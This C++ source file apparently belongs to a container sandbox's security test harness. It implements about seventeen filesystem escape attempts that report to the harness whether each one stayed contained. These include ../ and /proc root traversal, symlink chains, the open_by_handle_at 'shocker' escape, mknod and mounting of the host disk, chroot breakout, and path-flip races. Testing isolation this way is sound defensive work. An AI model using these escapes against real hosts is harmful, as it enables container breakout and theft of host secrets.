// Reaching host files: paths, /proc links, symlinks, file handles, a block
// device node, chroot, and the path-flip race against the sentry.
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <fstream>
#include <functional>
#include <sstream>
#include <vector>

#include "attack.h"

namespace vigil::security {
namespace {

// The numeric entries of /proc (bounded), plus the self links.
std::vector<std::string> ProcEntries() {
  std::vector<std::string> out = {"self", "thread-self", "1"};
  DIR* d = ::opendir("/proc");
  if (!d) return out;
  while (dirent* e = ::readdir(d)) {
    if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && out.size() < 4096) out.push_back(e->d_name);
  }
  ::closedir(d);
  return out;
}

Outcome ReadAbsolute(const Context& c) {
  std::string got;
  if (ReadsSecret(AT_FDCWD, c.secret, &got)) return Escaped(got);
  return Contained("open(" + c.secret + "): " + got);
}

Outcome ReadDotDot(const Context& c) {
  std::string got;
  for (const char* dir : {"/", "/tmp", "/proc/self", "/dev"}) {
    if (::chdir(dir) != 0) continue;
    std::string path = DotDots(40) + c.secret.substr(1);
    if (ReadsSecret(AT_FDCWD, path, &got)) return Escaped("from " + std::string(dir) + ": " + got);
  }
  if (ReadsSecret(AT_FDCWD, "/.." + c.secret, &got)) return Escaped("/.. prefix: " + got);
  return Contained("../ x40 from /, /tmp, /proc/self, /dev: " + got);
}

Outcome ReadProcRoot(const Context& c) {
  std::string got;
  int tried = 0;
  for (const std::string& pid : ProcEntries()) {
    for (const std::string& path :
         {"/proc/" + pid + "/root" + c.secret, "/proc/" + pid + "/root/" + DotDots(20) + c.secret,
          "/proc/" + pid + "/cwd/" + DotDots(40) + c.secret}) {
      ++tried;
      if (ReadsSecret(AT_FDCWD, path, &got)) return Escaped(path + ": " + got);
    }
  }
  return Contained(std::to_string(tried) + " /proc/PID/{root,cwd} paths: " + got);
}

Outcome ReadSymlink(const Context& c) {
  std::string got;
  const std::string targets[] = {c.secret, DotDots(40) + c.secret.substr(1),
                                 "/proc/1/root/" + DotDots(20) + c.secret.substr(1),
                                 "/proc/self/cwd/" + DotDots(40) + c.secret.substr(1)};
  int i = 0;
  for (const std::string& target : targets) {
    std::string link = "/tmp/vsec-link" + std::to_string(i++);
    ::unlink(link.c_str());
    if (::symlink(target.c_str(), link.c_str()) != 0) continue;
    if (ReadsSecret(AT_FDCWD, link, &got)) return Escaped(link + " -> " + target + ": " + got);
  }
  // A directory symlink to / used as a prefix, and a chain of links.
  ::symlink("/", "/tmp/vsec-root");
  if (ReadsSecret(AT_FDCWD, "/tmp/vsec-root/" + DotDots(10) + c.secret.substr(1), &got)) {
    return Escaped("via /tmp/vsec-root: " + got);
  }
  ::symlink("vsec-root/..", "/tmp/vsec-chain");
  if (ReadsSecret(AT_FDCWD, "/tmp/vsec-chain/" + DotDots(10) + c.secret.substr(1), &got)) {
    return Escaped("via chain: " + got);
  }
  return Contained("absolute, ../, /proc/1/root and chained symlinks: " + got);
}

// The "shocker" escape: a file handle for inode 2 (the root directory of an
// ext4 filesystem) opened against any fd on that filesystem.
Outcome OpenByHandle(const Context& c) {
  struct {
    file_handle h;
    unsigned char bytes[MAX_HANDLE_SZ];
  } own{};
  own.h.handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (::name_to_handle_at(AT_FDCWD, "/attack", &own.h, &mount_id, 0) != 0) {
    // name_to_handle_at is harmless by itself; go on with a guessed handle.
    own.h.handle_type = 1;  // FILEID_INO32_GEN
    own.h.handle_bytes = 8;
  }
  int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int fd = ::open_by_handle_at(root, &own.h, O_RDONLY | O_CLOEXEC);
  std::string detail = "own file: " + (fd >= 0 ? std::string("opened") : ErrnoText(errno));
  if (fd >= 0) ::close(fd);
  bool opened_any = fd >= 0;
  // Inode 2, generation 0: the filesystem's root, outside the container's.
  struct {
    file_handle h;
    std::uint32_t ino_gen[2];
  } host{};
  host.h.handle_bytes = 8;
  host.h.handle_type = 1;
  host.ino_gen[0] = 2;
  host.ino_gen[1] = 0;
  int fsroot = ::open_by_handle_at(root, &host.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  detail += "; inode 2: " + (fsroot >= 0 ? std::string("opened") : ErrnoText(errno));
  ::close(root);
  if (fsroot >= 0) {
    opened_any = true;
    std::string got;
    bool secret = ReadsSecret(fsroot, c.secret.substr(1), &got);
    ::close(fsroot);
    detail += "; " + got;
    if (secret) return Escaped(detail);
  }
  if (opened_any) return Escaped("open_by_handle_at works, any inode is reachable: " + detail);
  return Contained(detail);
}

// The block device behind a host mount (from /proc/partitions, which is not
// namespaced): mknod it, open it read-only, mount it read-only.
Outcome MknodHostDisk(const Context& c) {
  std::ifstream parts("/proc/partitions");
  std::string line;
  unsigned major_no = 0, minor_no = 0;
  std::string name;
  while (std::getline(parts, line)) {
    std::istringstream in(line);
    unsigned ma, mi;
    unsigned long long blocks;
    std::string n;
    if (in >> ma >> mi >> blocks >> n) {
      major_no = ma;
      minor_no = mi;
      name = n;
      break;
    }
  }
  if (name.empty()) {
    major_no = 254;  // virtio: the disk on these machines
    minor_no = 0;
    name = "vda (guessed)";
  }
  std::string detail = name + " " + std::to_string(major_no) + ":" + std::to_string(minor_no);
  const char* node = nullptr;
  for (const char* path : {"/dev/vsec-disk", "/tmp/vsec-disk"}) {
    ::unlink(path);
    if (::mknod(path, S_IFBLK | 0600, makedev(major_no, minor_no)) == 0) {
      node = path;
      break;
    }
    detail += "; mknod " + std::string(path) + ": " + ErrnoText(errno);
  }
  if (!node) return Contained(detail);
  detail += "; mknod ok";
  bool escaped = false;
  int fd = ::open(node, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    char block[512];
    ssize_t n = ::read(fd, block, sizeof block);
    detail += "; open O_RDONLY ok, read " + std::to_string(n) + " bytes of the host disk";
    ::close(fd);
    escaped = true;
  } else {
    detail += "; open: " + ErrnoText(errno);
  }
  ::mkdir("/tmp/vsec-mnt", 0700);
  if (::mount(node, "/tmp/vsec-mnt", "ext4", MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC,
              nullptr) == 0) {
    std::string got;
    escaped = true;
    detail += "; mounted read-only";
    if (ReadsSecret(AT_FDCWD, "/tmp/vsec-mnt" + c.secret, &got)) detail += "; " + got;
    ::umount2("/tmp/vsec-mnt", MNT_DETACH);
  } else {
    detail += "; mount: " + ErrnoText(errno);
  }
  ::unlink(node);
  return escaped ? Escaped(detail) : Contained(detail);
}

// Creates files named after the method in the host marker directory, by
// every path trick; the harness checks that the directory stays empty.
Outcome WriteOutside(const Context& c) {
  std::string m = c.marker.substr(1);  // relative form
  ::symlink(c.marker.c_str(), "/tmp/vsec-wlink");
  const std::pair<std::string, std::string> tries[] = {
      {"absolute", c.marker + "/absolute"},
      {"dotdot", "/tmp/" + DotDots(40) + m + "/dotdot"},
      {"proc1root", "/proc/1/root/" + DotDots(20) + m + "/proc1root"},
      {"procselfcwd", "/proc/self/cwd/" + DotDots(40) + m + "/procselfcwd"},
      {"symlink", "/tmp/vsec-wlink/symlink"},
  };
  std::string detail;
  for (const auto& [method, path] : tries) {
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd >= 0) {
      (void)!::write(fd, "escaped\n", 8);
      ::close(fd);
      return Escaped(method + ": created " + path);
    }
    detail += method + ": " + ErrnoText(errno) + "; ";
  }
  return Contained(detail);
}

// chroot into a subdirectory, climb out with chdir(".."), chroot("."): the
// classic escape when the runtime used chroot instead of pivot_root.
Outcome ChrootEscape(const Context& c) {
  ::mkdir("/tmp/vsec-jail", 0700);
  ChildResult r = InChild([&]() -> long {
    if (::chroot("/tmp/vsec-jail") != 0) return -1;
    for (int i = 0; i < 64; ++i) (void)!::chdir("..");
    if (::chroot(".") != 0) return -1;
    errno = 0;
    return ReadsSecret(AT_FDCWD, c.secret) ? 1 : 0;
  });
  if (r.exited && r.ret == 1) return Escaped("chroot+chdir(..) reached the host secret");
  return Contained("chroot escape: " + r.Describe() +
                   (r.exited && r.ret == 0 ? " (still inside the container's root)" : ""));
}

Outcome Mount(const Context&) {
  ::mkdir("/tmp/vsec-m", 0700);
  std::string detail;
  bool escaped = false;
  struct Try {
    const char* what;
    const char* src;
    const char* type;
    unsigned long flags;
  };
  for (const Try& t : {Try{"tmpfs", "none", "tmpfs", 0UL}, Try{"bind /", "/", nullptr, MS_BIND},
                       Try{"proc", "proc", "proc", 0UL}, Try{"sysfs", "sysfs", "sysfs", 0UL},
                       Try{"remount / rw", nullptr, nullptr, MS_REMOUNT | MS_BIND}}) {
    const char* target = t.src == nullptr ? "/" : "/tmp/vsec-m";
    if (::mount(t.src, target, t.type, t.flags, nullptr) == 0) {
      escaped = true;
      detail += std::string(t.what) + ": mounted; ";
      if (t.src != nullptr) ::umount2("/tmp/vsec-m", MNT_DETACH);
    } else {
      detail += std::string(t.what) + ": " + ErrnoText(errno) + "; ";
    }
  }
  return escaped ? Escaped(detail) : Contained(detail);
}

// Unmounting a masked or read-only path would uncover the host's view below.
Outcome UmountMasked(const Context&) {
  std::string detail;
  bool escaped = false;
  for (const char* path :
       {"/proc/kcore", "/proc/sys", "/proc/sysrq-trigger", "/sys/firmware", "/proc/keys"}) {
    if (::umount2(path, MNT_DETACH) == 0) {
      escaped = true;
      detail += std::string(path) + ": unmounted; ";
    } else {
      detail += std::string(path) + ": " + ErrnoText(errno) + "; ";
    }
  }
  return escaped ? Escaped(detail) : Contained(detail);
}

// pivot_root(".", ".") from / stacks the old root over the new one; the
// permission check (CAP_SYS_ADMIN over the mount namespace) comes first, so
// anything but EPERM/ENOSYS means the kernel would have acted.
Outcome PivotRoot(const Context&) {
  ChildResult r = InChild([]() -> long {
    if (::chdir("/") != 0) return -1;
    return ::syscall(SYS_pivot_root, ".", ".");
  });
  if (r.exited && (r.ret == 0 || !IsRefusal(r.err))) return Escaped("pivot_root: " + r.Describe());
  return Contained("pivot_root: " + r.Describe());
}

// The race both path-flip attacks run: for 2 s a second thread calls
// `flip(i)` (i = 0, 1, ...) while this one opens and reads each of `paths`;
// escaped if the secret was ever read, or, with `need_benign`, if the benign
// file never was (then there was no race to speak of).
Outcome RaceReads(const std::function<void(std::size_t)>& flip,
                  const std::vector<const char*>& paths, bool need_benign) {
  long opens = 0, benign_reads = 0, flips = 0;
  std::string escaped_detail;
  {
    Flipper flipper([&](long i) { flip(static_cast<std::size_t>(i)); });
    const long long deadline = NowMs() + 2000;
    while (NowMs() < deadline && escaped_detail.empty()) {
      for (const char* p : paths) {
        std::string got;
        ++opens;
        if (ReadsSecret(AT_FDCWD, p, &got)) {
          escaped_detail = got;
          break;
        }
        if (got == "read non-secret data") ++benign_reads;
      }
    }
    flips = flipper.flips();
  }
  std::string detail = std::to_string(opens) + " opens, " + std::to_string(benign_reads) +
                       " benign reads, " + std::to_string(flips) + " flips in 2 s";
  if (!escaped_detail.empty()) return Escaped(detail + ": " + escaped_detail);
  if (need_benign && benign_reads == 0)
    return Escaped(detail + ": the benign file was never read (no race)");
  return Contained(detail);
}

void WriteBenign() {
  std::ofstream benign("/tmp/vsec-benign");
  benign << "benign\n";
}

// Two threads for 2 s: one opens a path held in memory (and a symlink), the
// other flips it between a benign container file and the host secret. A
// sentry that reads the path twice (check, then use) opens the host file.
Outcome PathFlipRace(const Context& c) {
  WriteBenign();
  constexpr std::size_t kLen = 4096;
  static char path[kLen];
  const std::string benign = "/tmp/vsec-benign";
  const std::string evil[] = {c.secret, "/tmp/" + DotDots(40) + c.secret.substr(1),
                              "/proc/1/root/" + DotDots(20) + c.secret.substr(1)};
  std::snprintf(path, kLen, "%s", benign.c_str());
  ::symlink(benign.c_str(), "/tmp/vsec-flip");
  return RaceReads(
      [&](std::size_t i) {
        const std::string& e = evil[i % 3];
        std::memcpy(path, e.c_str(), e.size() + 1);
        std::memcpy(path, benign.c_str(), benign.size() + 1);
        // The symlink: rename a prepared link over it, alternately.
        ::unlink("/tmp/vsec-flip.new");
        if (::symlink((i & 1) ? benign.c_str() : e.c_str(), "/tmp/vsec-flip.new") == 0) {
          ::rename("/tmp/vsec-flip.new", "/tmp/vsec-flip");
        }
      },
      {path, "/tmp/vsec-flip"}, /*need_benign=*/false);
}

// The same race against a file inside the container that vigil's file
// policy hides (the harness writes the secret to /etc/vsec-hidden and hides
// it): a sentry deciding on one reading of the path and opening another
// would hand it out. runc and runsc have no such policy: they read it.
Outcome HiddenFilePathFlip(const Context&) {
  WriteBenign();
  constexpr std::size_t kLen = 256;
  static char path[kLen];
  const std::string benign = "/tmp/vsec-benign";
  const std::string hidden[] = {"/etc/vsec-hidden", "/tmp/../etc/vsec-hidden", "/etc/./vsec-hidden",
                                "/tmp/vsec-hlink"};
  ::symlink("/etc/vsec-hidden", "/tmp/vsec-hlink");
  std::snprintf(path, kLen, "%s", benign.c_str());
  return RaceReads(
      [&](std::size_t i) {
        const std::string& h = hidden[i % 4];
        std::memcpy(path, h.c_str(), h.size() + 1);
        std::memcpy(path, benign.c_str(), benign.size() + 1);
      },
      {path}, /*need_benign=*/true);
}

// The same flip with O_PATH opens, which ask for no access: a sentry that
// let the kernel make them (CONTINUE) under a policy that hides a file
// would hand out a descriptor of it, whose fstat tells the file exists and
// what it is. Escaped if an O_PATH open ever yields a file other than the
// benign one (the hidden file is the only other the paths resolve to).
Outcome HiddenFileOpathFlip(const Context&) {
  WriteBenign();
  struct stat benign_st {};
  if (::stat("/tmp/vsec-benign", &benign_st) != 0) return Contained("no benign file to race with");
  constexpr std::size_t kLen = 256;
  static char path[kLen];
  const std::string benign = "/tmp/vsec-benign";
  const std::string hidden[] = {"/etc/vsec-hidden", "/tmp/../etc/vsec-hidden",
                                "/etc/./vsec-hidden"};
  std::snprintf(path, kLen, "%s", benign.c_str());
  long opens = 0, benign_opens = 0;
  std::string escaped;
  {
    Flipper flipper([&](long i) {
      const std::string& h = hidden[i % 3];
      std::memcpy(path, h.c_str(), h.size() + 1);
      std::memcpy(path, benign.c_str(), benign.size() + 1);
    });
    const long long deadline = NowMs() + 2000;
    while (NowMs() < deadline && escaped.empty()) {
      ++opens;
      const long fd = ::syscall(SYS_openat, AT_FDCWD, path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st {};
      if (::fstat(static_cast<int>(fd), &st) == 0) {
        if (st.st_ino == benign_st.st_ino && st.st_dev == benign_st.st_dev) {
          ++benign_opens;
        } else {
          escaped =
              "an O_PATH descriptor of another file (size " + std::to_string(st.st_size) + ")";
        }
      }
      ::close(static_cast<int>(fd));
    }
  }
  std::string detail = std::to_string(opens) + " O_PATH opens, " + std::to_string(benign_opens) +
                       " of the benign file in 2 s";
  if (!escaped.empty()) return Escaped(detail + ": " + escaped);
  return Contained(detail);
}

// A process that chroots still meets vigil's file policy by the
// container's names: inside chroot("/etc"), "/vsec-hidden" (and
// "vsec-hidden" from its root) is the /etc/vsec-hidden the policy hides. A
// sentry deciding on paths from the process's own root hands it out.
Outcome HiddenFileChroot(const Context&) {
  ChildResult r = InChild([]() -> long {
    if (::chroot("/etc") != 0) return -1;
    if (ReadsSecret(AT_FDCWD, "/vsec-hidden")) return 1;
    if (::chdir("/") != 0) return -1;
    errno = 0;
    return ReadsSecret(AT_FDCWD, "vsec-hidden") ? 1 : 0;
  });
  if (r.exited && r.ret == 1) return Escaped("read the hidden file inside chroot /etc");
  return Contained("inside chroot /etc: " + r.Describe());
}

// The policy keeps /etc/vsec-hidden read-only on a writable mount: it may be
// opened for reading, but the inode flags of that descriptor's file must not
// change (the kernel asks only for ownership, and the attack owns it).
Outcome ReadOnlyFileFlags(const Context&) {
  const int fd = ::open("/etc/vsec-hidden", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return Contained("could not open it for reading: " + ErrnoText(errno));
  std::string detail;
  int flags = 0;
  if (::ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
    const int wanted = flags | FS_NODUMP_FL;
    if (::ioctl(fd, FS_IOC_SETFLAGS, &wanted) == 0 && (flags & FS_NODUMP_FL) == 0) {
      ::ioctl(fd, FS_IOC_SETFLAGS, &flags);
      ::close(fd);
      return Escaped("FS_IOC_SETFLAGS set FS_NODUMP_FL on a read-only file");
    }
    detail += "FS_IOC_SETFLAGS: " + ErrnoText(errno) + "; ";
  } else {
    detail += "FS_IOC_GETFLAGS: " + ErrnoText(errno) + "; ";
  }
  fsxattr attributes{};
  if (::ioctl(fd, FS_IOC_FSGETXATTR, &attributes) == 0) {
    const unsigned before = attributes.fsx_xflags;
    attributes.fsx_xflags |= FS_XFLAG_NODUMP;
    if (::ioctl(fd, FS_IOC_FSSETXATTR, &attributes) == 0 && (before & FS_XFLAG_NODUMP) == 0) {
      attributes.fsx_xflags = before;
      ::ioctl(fd, FS_IOC_FSSETXATTR, &attributes);
      ::close(fd);
      return Escaped("FS_IOC_FSSETXATTR set FS_XFLAG_NODUMP on a read-only file");
    }
    detail += "FS_IOC_FSSETXATTR: " + ErrnoText(errno);
  } else {
    detail += "FS_IOC_FSGETXATTR: " + ErrnoText(errno);
  }
  ::close(fd);
  return Contained(detail);
}

// The image's working directory is a symlink to the host directory that
// holds the secret and the marker (the harness makes /vsec-work so and sets
// process.cwd to it), under a policy whose read-only root keeps the working
// directory writable with a bind of the image's own directory: the image's
// symlink must name a path of the image (the harness puts a decoy there),
// never the host's.
Outcome ImageSymlinkCwd(const Context& c) {
  const std::string secret_name = c.secret.substr(c.secret.rfind('/') + 1);
  const std::string marker_name = c.marker.substr(c.marker.rfind('/') + 1);
  std::string detail;
  for (const std::string& path : {secret_name, "/vsec-work/" + secret_name}) {
    std::string got;
    if (ReadsSecret(AT_FDCWD, path, &got)) return Escaped(path + ": " + got);
    detail += path + ": " + got + "; ";
  }
  // The image has a marker directory at that path too: only the harness
  // can tell which one a created file landed in.
  const std::string probe = marker_name + "/image-symlink-cwd";
  const int fd = ::open(probe.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  detail += "create " + probe + ": " + (fd >= 0 ? "created" : ErrnoText(errno));
  if (fd >= 0) ::close(fd);
  return Contained(detail);
}

}  // namespace

const std::vector<Attack>& FsAttacks() {
  static const std::vector<Attack> kAttacks = {
      {"read-absolute", ReadAbsolute, "open the host secret by its absolute host path"},
      {"read-dotdot", ReadDotDot, "climb out of the root with ../ from several directories"},
      {"read-proc-root", ReadProcRoot, "/proc/PID/root and /proc/PID/cwd of every visible pid"},
      {"read-symlink", ReadSymlink, "absolute, ../, /proc and chained symlinks to the secret"},
      {"open-by-handle", OpenByHandle, "open_by_handle_at with inode 2 (the shocker escape)"},
      {"mknod-host-disk", MknodHostDisk, "mknod the host disk, open it, mount it read-only"},
      {"write-outside", WriteOutside, "create files in a host marker directory by path tricks"},
      {"chroot-escape", ChrootEscape, "chroot into a subdirectory, chdir(..) out, chroot(.)"},
      {"mount", Mount, "mount tmpfs, proc, sysfs, bind / and remount / read-write"},
      {"umount-masked", UmountMasked, "unmount masked and read-only /proc and /sys paths"},
      {"pivot-root", PivotRoot, "pivot_root(., .) from /"},
      {"path-flip-race", PathFlipRace, "flip a path in memory and a symlink while opening (2 s)"},
      {"hidden-file-path-flip", HiddenFilePathFlip,
       "the path-flip race against a file vigil's policy hides (2 s)"},
      {"hidden-file-opath-flip", HiddenFileOpathFlip,
       "the path-flip race with O_PATH opens against a file vigil's policy hides (2 s)"},
      {"hidden-file-chroot", HiddenFileChroot,
       "chroot into /etc, then read the file vigil's policy hides there"},
      {"read-only-file-flags", ReadOnlyFileFlags,
       "change the inode flags of a file vigil's policy keeps read-only"},
      {"image-symlink-cwd", ImageSymlinkCwd,
       "the image's working directory a symlink to a host directory, under a read-only root "
       "that keeps it writable"},
  };
  return kAttacks;
}

}  // namespace vigil::security
